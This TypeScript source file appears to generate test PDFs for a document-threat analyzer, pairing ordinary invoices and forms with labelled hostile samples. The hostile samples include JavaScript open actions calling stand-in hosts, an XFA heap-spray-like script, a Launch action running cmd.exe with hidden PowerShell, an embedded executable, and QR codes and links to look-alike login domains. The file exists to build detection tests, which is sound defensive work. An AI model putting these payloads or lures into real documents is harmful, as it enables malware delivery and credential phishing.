import { deflateSync } from 'node:zlib'
import { packedObjects } from '../../../analyzers/src/document/document-samples.ts'
import { makePe } from '../../../analyzers/src/executable/program-samples.ts'
import { type Entry, files, noise, sampleFiles, sentences, word } from '../entry.ts'
import { asJpeg, codeRaster, photo } from './pictures.ts'

type PdfObject = string | { readonly dictionary: string; readonly stream: Buffer | string }

/** With a cross-reference table, as readers expect it. */
export function pdf(
  objects: readonly PdfObject[],
  producer = 'LibreOffice 24.2',
  version = '1.7',
): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`, 'latin1')]
  const places: number[] = []
  const size = () => parts.reduce((sum, part) => sum + part.length, 0)
  const all: PdfObject[] = [
    ...objects,
    `<< /Producer (${producer}) /CreationDate (D:20260601100000+02'00') >>`,
  ]
  for (const [at, object] of all.entries()) {
    places.push(size())
    if (typeof object === 'string')
      parts.push(Buffer.from(`${at + 1} 0 obj\n${object}\nendobj\n`, 'latin1'))
    else {
      const stream = Buffer.from(object.stream)
      parts.push(
        Buffer.from(
          `${at + 1} 0 obj\n<< ${object.dictionary} /Length ${stream.length} >>\nstream\n`,
        ),
        stream,
        Buffer.from('\nendstream\nendobj\n'),
      )
    }
  }
  const start = size()
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  parts.push(
    Buffer.from(
      `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${all.length + 1} /Root 1 0 R /Info ${all.length} 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

const flate = (text: string | Buffer, more = ''): PdfObject => ({
  dictionary: `${more} /Filter /FlateDecode`,
  stream: deflateSync(text),
})

const page = (lines: readonly string[]) =>
  flate(
    `BT /F1 11 Tf 60 780 Td 14 TL ${lines.map((line) => `(${line.replace(/[()\\]/g, '\\$&')}) '`).join('\n')} ET`,
  )

/** A page with text; what is given comes into the catalog, the page, and behind. */
export const document = (
  {
    catalog = '',
    leaf = '',
    more = [] as readonly PdfObject[],
    lines = sentences(12) as readonly string[],
  },
  producer?: string,
  version?: string,
): Buffer =>
  pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R /Lang (en) ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${leaf} >>`,
      page(lines),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ...more,
    ],
    producer,
    version,
  )

export const invoicePdf = (company: string): Buffer =>
  document({ lines: [company, 'Invoice 4711', 'Total 79.90', ...sentences(4)] })

const jpegObject = (bytes: Buffer, width: number, height: number): PdfObject => ({
  dictionary: `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode`,
  stream: bytes,
})

const withPicture = (picture: PdfObject, lines: string[]): Buffer =>
  document({
    leaf: '/Resources << /XObject << /Im0 6 0 R >> /Font << /F1 5 0 R >> >>',
    more: [picture],
    lines,
  })

const script = (text: string) => `<< /S /JavaScript /JS (${text.replace(/[()\\]/g, '\\$&')}) >>`
const code = (text: string, quality = 85) => {
  const raster = codeRaster(text)
  return jpegObject(asJpeg(raster, quality), raster.width, raster.height)
}

const lure = 'https://login.rnicrosoft.com/mfa?u=jane.doe@corp.example'

export const pdfEntries = (): Entry[] => [
  ...files('pdf', 'ordinary documents', [
    ['Invoice 4711.pdf', invoicePdf('Carpenter')],
    ['Rechnung.pdf', document({}, 'Microsoft: Print To PDF')],
    ['facture.pdf', document({}, 'iText 7.2.5', '1.4')],
    [
      'paper.pdf',
      document(
        { catalog: '/PageMode /UseOutlines /OpenAction [3 0 R /Fit]' },
        'pdfTeX-1.40.25',
        '1.5',
      ),
    ],
    [
      'ticket.pdf',
      document(
        {
          leaf: '/Annots [6 0 R]',
          more: [
            '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.sbb.ch/en) >> >>',
          ],
        },
        'Skia/PDF m131',
      ),
    ],
    [
      'manual.pdf',
      document(
        {
          catalog: '/Outlines 6 0 R /Names << /Dests 7 0 R >>',
          more: ['<< /Type /Outlines /Count 0 >>', '<< /Names [(start) [3 0 R /XYZ 0 800 0]] >>'],
        },
        'Acrobat Distiller 23.0',
      ),
    ],
    [
      'presentation.pdf',
      document(
        {
          catalog:
            '/ViewerPreferences << /DisplayDocTitle true >> /MarkInfo << /Marked true >> /StructTreeRoot 6 0 R',
          more: ['<< /Type /StructTreeRoot >>'],
        },
        'Microsoft® PowerPoint® for Microsoft 365',
      ),
    ],
    [
      'form.pdf',
      document({
        catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
        leaf: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 700 200 720] /V (Jane) >>',
        ],
      }),
    ],
    [
      'tax form.pdf',
      document(
        {
          catalog: '/AcroForm << /Fields [6 0 R] >>',
          leaf: '/Annots [6 0 R]',
          more: [
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [60 700 200 720] /AA << /K ${script('AFNumber_Keystroke(2, 0, 0, 0, "", true);')} /F ${script('AFNumber_Format(2, 0, 0, 0, "", true);')} >> >>`,
          ],
        },
        'Adobe LiveCycle Designer 11.0',
      ),
    ],
    [
      'application form.pdf',
      document(
        {
          catalog: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>',
          leaf: '/Annots [6 0 R]',
          more: [
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /Rect [60 700 200 720] /AA << /C ${script('AFSimple_Calculate("SUM", new Array ("a", "b"));')} /F ${script('AFDate_FormatEx("dd.mm.yyyy");')} >> >>`,
          ],
        },
        'Adobe Acrobat Pro 24',
      ),
    ],
    [
      'signed.pdf',
      document({
        catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >>',
        leaf: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /V 7 0 R >>',
          `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 100 200 100] /Contents <${'00'.repeat(200)}> /M (D:20260601100000Z) >>`,
        ],
      }),
    ],
    ['scan0001.pdf', withPicture(jpegObject(photo(9), 96, 64), [])],
    ['brochure.pdf', withPicture(jpegObject(photo(8), 96, 64), sentences(6))],
    [
      'zugferd.pdf',
      document(
        {
          catalog: '/Names << /EmbeddedFiles << /Names [(factur-x.xml) 6 0 R] >> >> /AF [6 0 R]',
          more: [
            '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /AFRelationship /Alternative /EF << /F 7 0 R >> >>',
            flate(
              '<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>',
              '/Type /EmbeddedFile /Subtype /text#2Fxml',
            ),
          ],
        },
        'ZUGFeRD',
      ),
    ],
    [
      'portfolio.pdf',
      document({
        catalog: '/Names << /EmbeddedFiles << /Names [(plan.txt) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (plan.txt) /EF << /F 7 0 R >> >>',
          flate(sentences(4).join('\n'), '/Type /EmbeddedFile'),
        ],
      }),
    ],
    [
      'book.pdf',
      document(
        {
          lines: sentences(60),
          more: [packedObjects({ 20: '<< /Title (One) >>', 21: '<< /Title (Two) >>' })],
        },
        'Adobe InDesign 19.0',
      ),
    ],
    [
      'poster.pdf',
      withPicture(code('https://www.restaurant.example.org/menu'), ['Scan for the menu']),
    ],
    [
      'bill with code.pdf',
      withPicture(
        code(
          'SPC\n0200\n1\nCH4431999123000889012\nS\nMax Muster\nStrasse\n1\n8000\nZurich\nCH\n\n\n\n\n\n\n\n50.00\nCHF\n\n\n\n\n\n\n\nNON\n\n\nEPD',
        ),
        ['Zahlteil'],
      ),
    ],
    [
      'print me.pdf',
      document({ catalog: '/OpenAction << /S /Named /N /Print >>' }, 'wkhtmltopdf 0.12.6'),
    ],
    [
      'linked pages.pdf',
      document({
        leaf: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>',
        ],
      }),
    ],
    [
      'mailto.pdf',
      document({
        leaf: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:info@carpenter.example.ch) >> >>',
        ],
      }),
    ],
    [
      'incremental.pdf',
      Buffer.concat([
        invoicePdf('Club'),
        Buffer.from(
          '10 0 obj\n<< /Note (changed) >>\nendobj\nxref\n10 1\n0000000009 00000 n \ntrailer\n<< /Size 11 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n',
        ),
      ]),
    ],
  ]),
  ...sampleFiles('pdf', 'form with a script (XFA)', /^document\./, [
    [
      'xfa.pdf',
      document({
        catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>',
        more: [
          flate(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("http://files.example.net/a"); app.launchURL("http://files.example.net/b");</script></event></subform></template></xdp:xdp>`,
          ),
        ],
      }),
    ],
    [
      'xfa parts.pdf',
      document({
        catalog: '/AcroForm << /XFA [(template) 6 0 R (datasets) 7 0 R] /Fields [] >>',
        more: [
          flate(
            '<template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform><field><event activity="docReady" ref="$host"><script contentType="application/x-javascript">var s = unescape("%u9090%u9090"); while (s.length &lt; 0x10000) s += s; xfa.host.exportData("http://files.example.net/x");</script></event></field></subform></template>',
          ),
          flate('<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"/>'),
        ],
      }),
    ],
  ]),
  ...sampleFiles('pdf', 'script when it is opened', /^document\./, [
    [
      'script.pdf',
      document({
        catalog: `/OpenAction ${script('var u = unescape("%u4141"); app.launchURL("http://files.example.net/x", true);')}`,
      }),
    ],
    [
      'names.pdf',
      document({
        catalog: `/Names << /JavaScript << /Names [(0) ${script('this.exportDataObject({ cName: "a.js", nLaunch: 2 });')}] >> >>`,
      }),
    ],
    [
      'page action.pdf',
      document({ leaf: `/AA << /O ${script('app.launchURL("http://files.example.net/");')} >>` }),
    ],
    [
      'hex names.pdf',
      document({ catalog: '/Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }),
    ],
    [
      'packed.pdf',
      document({
        catalog: '/OpenAction 30 0 R',
        more: [packedObjects({ 30: script('app.launchURL("http://files.example.net/x");') })],
      }),
    ],
  ]),
  ...sampleFiles(
    'pdf',
    'starts or sends something',
    /^(?:document|archive|file|executable|mail)\./,
    [
      [
        'launch.pdf',
        document({
          catalog: `/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c ${word('power', 'shell')} -w hidden) >> >>`,
        }),
      ],
      [
        'launch click.pdf',
        document({
          leaf: '/Annots [6 0 R]',
          more: [
            '<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (invoice.exe) >> >>',
          ],
        }),
      ],
      [
        'share.pdf',
        document({
          leaf: '/AA << /O << /S /GoToE /F (\\\\\\\\1.2.3.4\\\\share\\\\a) /D [0 /Fit] >> >>',
        }),
      ],
      [
        'remote.pdf',
        document({
          catalog:
            '/OpenAction << /S /GoToR /F (\\\\\\\\files.example.net\\\\docs\\\\a.pdf) /D [0 /Fit] >>',
        }),
      ],
      [
        'submit.pdf',
        document({
          catalog:
            '/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://collect.example.net/f) >> >>',
        }),
      ],
      [
        'goes away.pdf',
        document({ catalog: '/OpenAction << /S /URI /URI (http://login.example.net/verify) >>' }),
      ],
      [
        'program inside.pdf',
        document({
          catalog: '/Names << /EmbeddedFiles << /Names [(update.exe) 6 0 R] >> >>',
          more: [
            '<< /Type /Filespec /F (update.exe) /EF << /F 7 0 R >> >>',
            flate(makePe(), '/Type /EmbeddedFile'),
          ],
        }),
      ],
      [
        'script inside.pdf',
        document({
          catalog: '/Names << /EmbeddedFiles << /Names [(invoice.pdf.js) 6 0 R] >> >>',
          more: [
            '<< /Type /Filespec /F (invoice.pdf.js) /EF << /F 7 0 R >> >>',
            flate('WScript.CreateObject("WScript.Shell").Run("calc.exe")', '/Type /EmbeddedFile'),
          ],
        }),
      ],
      [
        'flash.pdf',
        document({
          leaf: '/Annots [6 0 R]',
          more: [
            '<< /Type /Annot /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 7 0 R] >> >> >>',
            '<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>',
            flate(Buffer.concat([Buffer.from('CWS\x0a'), noise(300)])),
          ],
        }),
      ],
    ],
  ),
  ...sampleFiles('pdf', 'code to scan in a picture (JPEG)', /^(?:qr|url|domain)\./, [
    [
      'MFA.pdf',
      withPicture(code(lure), ['Your access ends today.', 'Scan the code with your telephone.']),
    ],
    ['Payroll.pdf', withPicture(code('https://www.paypa1.com/benefits', 60), ['New salary table'])],
    [
      'Voicemail.pdf',
      withPicture(code('https://micros0ft-support.com/vm#jane.doe@corp.example'), [
        'You have a message',
      ]),
    ],
  ]),
  ...sampleFiles('pdf', 'link to a look-alike', /^(?:url|domain|document)\./, [
    [
      'Shared document.pdf',
      document({
        leaf: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (https://login.rnicrosoft.com/view?id=1) >> >>',
        ],
      }),
    ],
    [
      'Remittance.pdf',
      document({
        leaf: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (https://docusgin.com/sign) >> >>',
        ],
      }),
    ],
  ]),
]
